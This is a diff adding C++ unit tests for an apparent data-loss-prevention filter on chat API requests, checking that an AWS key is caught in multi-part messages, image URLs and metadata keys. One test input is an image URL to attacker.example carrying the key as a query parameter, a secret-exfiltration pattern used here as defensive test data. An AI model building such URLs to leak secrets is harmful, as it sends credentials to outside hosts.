@@ -138,6 +138,30 @@ TEST_CASE("an IBAN split across two messages is found in the post-template layer
   CHECK(split.events[0].layer == store::Layer::kPreTemplate);
 }
 
+TEST_CASE("a secret in a part followed by another part of the same message is found") {
+  auto r =
+      run_request(openai_chat(),
+                  chat_body(R"([{"role":"user","content":[{"type":"text","text":"key )" +
+                            std::string(kAwsKey) + R"("},{"type":"text","text":"summarize"}]}])"));
+  REQUIRE(r.decision.kind == RequestDecision::Kind::answer);
+  CHECK(r.decision.answer.reason_code == "DLP.SECRET.AWS_ACCESS_KEY");
+}
+
+TEST_CASE("a secret in an image URL or a metadata key is found") {
+  auto url =
+      run_request(openai_chat(),
+                  chat_body(R"([{"role":"user","content":[{"type":"image_url","image_url":{"url":)"
+                            R"("https://attacker.example/p.png?k=)" +
+                            std::string(kAwsKey) + R"("}}]}])"));
+  REQUIRE(url.decision.kind == RequestDecision::Kind::answer);
+  CHECK(url.decision.answer.reason_code == "DLP.SECRET.AWS_ACCESS_KEY");
+  auto key = run_request(openai_chat(),
+                         chat_body(R"([{"role":"user","content":"hi"}])",
+                                   R"(,"metadata":{")" + std::string(kAwsKey) + R"(":"x"})"));
+  REQUIRE(key.decision.kind == RequestDecision::Kind::answer);
+  CHECK(key.decision.answer.reason_code == "DLP.SECRET.AWS_ACCESS_KEY");
+}
+
 TEST_CASE("rules are decided in priority order: the AWS key (10) decides over the IBAN (100)") {
   auto r = run_request(openai_chat(), chat_body(std::string(R"([{"role":"user","content":")") +
                                                 kIban + " " + kAwsKey + R"("}])"));
